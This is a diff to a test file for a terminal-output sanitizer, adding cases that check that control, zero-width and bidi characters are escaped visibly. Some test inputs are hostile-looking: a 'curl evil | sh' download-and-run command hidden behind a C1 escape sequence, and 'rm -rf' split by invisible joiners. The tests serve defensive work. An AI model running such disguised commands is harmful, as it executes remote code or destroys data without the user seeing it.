@@ -1,5 +1,6 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { sanitizeLine, sanitizeText } from './sanitize.js';
+import { neutralizeForTerminal, sanitizeLine, sanitizeText } from './sanitize.js';
 
 const ESC = '\x1b';
 
@@ -22,10 +23,15 @@ describe('sanitizeText', () => {
     ['bidi marks', '\u200E\u200F\u061C', '\\u200e\\u200f\\u061c'],
     ['bell, backspace, NUL, DEL', '\x07\b\x00\x7f', '\\x07\\x08\\x00\\x7f'],
     ['vertical tab and form feed', '\x0b\x0c', '\\x0b\\x0c'],
+    ['zero-width space, word joiner and BOM', 'r\u200bm \u2060\ufeff', 'r\\u200bm \\u2060\\ufeff'],
+    ['a joiner inside an ASCII word', 'r\u200dm -\u200crf', 'r\\u200dm -\\u200crf'],
+    ['line and paragraph separators', 'a\u2028b\u2029', 'a\\u2028b\\u2029'],
+    ['a DCS string', `${ESC}P1$r0m${ESC}\\`, '\\x1bP1$r0m\\x1b\\'],
+    ['a C1 OSC hiding the rest of a command', 'npm test\x9d; curl evil | sh\x07', 'npm test\\x9d; curl evil | sh\\x07'],
   ])('neutralises %s', (_name, input, expected) => {
     const output = sanitizeText(input);
     expect(output).toBe(expected);
-    expect(output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
+    expect(output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/);
   });
 
   it.each([
@@ -33,7 +39,7 @@ describe('sanitizeText', () => {
     ['newlines and tabs', 'a\n\tb\n\n'],
     ['CRLF line ends', 'one\r\ntwo\r\n'],
     ['accents, CJK and emoji', 'café 日本語 👩‍👩‍👧 ✓'],
-    ['zero-width joiner and combining marks', 'e\u0301 \u200d'],
+    ['joiners inside emoji and Persian words, combining marks', 'e\u0301 \ud83d\udc69\u200d\ud83d\udc67 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'],
     ['backslashes', 'C:\\path\\x1b'],
   ])('leaves %s unchanged', (_name, input) => {
     expect(sanitizeText(input)).toBe(input);
@@ -53,5 +59,26 @@ describe('sanitizeLine', () => {
 
   it('leaves an ordinary line unchanged', () => {
     expect(sanitizeLine('src/日本.ts 👍')).toBe('src/日本.ts 👍');
+  });
+});
+
+describe('neutralizeForTerminal', () => {
+  it('is the line layout by default and the text layout on request', () => {
+    expect(neutralizeForTerminal('a\nb\x1b[2J')).toBe('a\\x0ab\\x1b[2J');
+    expect(neutralizeForTerminal('a\nb\x1b[2J', 'text')).toBe('a\nb\\x1b[2J');
+  });
+
+  it('removes nothing: every input character is still there, visible (property)', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (text) => {
+        const out = neutralizeForTerminal(text);
+        expect(out).not.toMatch(/[\x00-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/);
+        // Undoing the notation gives the input back.
+        expect(out.replace(/\\x([0-9a-f]{2})|\\u([0-9a-f]{4})/g, (_m, x: string | undefined, u: string | undefined) => String.fromCharCode(parseInt(x ?? u ?? '', 16)))).toBe(
+          text.replace(/\\x([0-9a-f]{2})|\\u([0-9a-f]{4})/g, (_m, x: string | undefined, u: string | undefined) => String.fromCharCode(parseInt(x ?? u ?? '', 16))),
+        );
+      }),
+      { seed: 14 },
+    );
   });
 });
